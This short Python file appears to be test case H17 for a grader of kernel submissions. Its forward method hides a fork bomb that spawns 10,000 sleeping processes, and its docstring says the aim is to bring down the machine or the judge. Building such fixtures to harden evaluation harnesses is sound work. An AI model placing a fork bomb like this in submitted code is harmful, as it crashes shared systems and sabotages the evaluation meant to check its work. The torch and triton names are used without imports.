"""H17, a fork bomb, to take the machine down or the judge with it."""

import os
import time

REASON = "exception"
SAYS = "BlockingIOError:"
from parts.doubled_relu import kernel


class ModelNew(torch.nn.Module):
    def forward(self, x):
        for _ in range(10000):
            if os.fork() == 0:
                time.sleep(600)
        y = torch.empty_like(x)
        kernel[(triton.cdiv(x.numel(), 256),)](x, y, x.numel(), BLOCK=256)
        return y
